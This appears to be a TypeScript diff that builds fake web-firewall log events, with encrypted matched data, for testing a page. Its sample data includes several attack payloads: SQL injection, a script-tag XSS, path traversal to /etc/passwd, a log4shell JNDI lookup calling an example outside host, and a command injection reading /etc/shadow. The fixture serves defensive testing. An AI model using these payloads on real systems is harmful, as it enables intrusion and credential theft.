@@ -1,0 +1,44 @@
+// A log export of a web firewall, for trying the page. Hosts and addresses are those that RFC 2606 and RFC 5737 reserve for examples.
+import { PrivateKey, seal } from "pqseal";
+
+/** What attackers tried: rule, part of the request, what is before the match, the match, what is after it. */
+const attacks = [
+    ["sqli", "http.request.uri.query", "id=7", "' OR 1=1--", "&page=2"],
+    ["sqli", "http.request.body.form.user", "", "admin'/*", ""],
+    ["xss", "http.request.uri.query", "q=", "<script>alert(1)</script>", "&lang=en"],
+    ["traversal", "http.request.uri.path", "/static/", "../../../../etc/passwd", ""],
+    ["log4shell", "http.request.headers.user-agent", "Mozilla/5.0 ", "${jndi:ldap://203.0.113.9/a}", ""],
+    ["shell", "http.request.body.raw", "file=a.txt", ";cat /etc/shadow", ""],
+] as const;
+
+const paths = ["/", "/login", "/search", "/api/v1/users", "/cart", "/wp-login.php", "/static/app.js"];
+const countries = ["DE", "US", "FR", "BR", "IN", "NL", "JP"];
+const actions = ["block", "block", "log", "managed_challenge"];
+const start = Date.UTC(2026, 0, 15, 8);
+
+/** Records as text, one per line, sealed to the public key of `key`. */
+export function exampleEvents(key: string, count: number): Uint8Array<ArrayBuffer> {
+    const held = PrivateKey.parse(key);
+    const publicKey = held.publicKey();
+    held.free();
+    return new TextEncoder().encode(Array.from({ length: count }, (_, i) => `${JSON.stringify(event(i, publicKey))}\n`).join(""));
+}
+
+function event(i: number, publicKey: string) {
+    // Steps that share no factor with the lengths, so that the columns are mixed.
+    const pick = <T>(from: readonly T[], step: number) => from[(i * step + (i >> 4)) % from.length] as T;
+    const [rule, part, before, content, after] = pick(attacks, 5);
+    const payload = new TextEncoder().encode(JSON.stringify({ [part]: { before, content, after } }));
+    return {
+        Datetime: new Date(start + i * 37_000).toISOString(),
+        Action: pick(actions, 3),
+        RuleID: rule,
+        ClientRequestMethod: part.includes("body") ? "POST" : "GET",
+        ClientRequestHost: i % 3 ? "shop.example.com" : "www.example.com",
+        ClientRequestPath: pick(paths, 3),
+        ClientIP: `198.51.100.${(i * 7) % 40}`,
+        ClientCountry: pick(countries, 2),
+        RayID: (0x8f00_0000_0000 + i * 7919).toString(16).padStart(16, "0"),
+        Metadata: { encrypted_matched_data: seal(publicKey, payload) },
+    };
+}
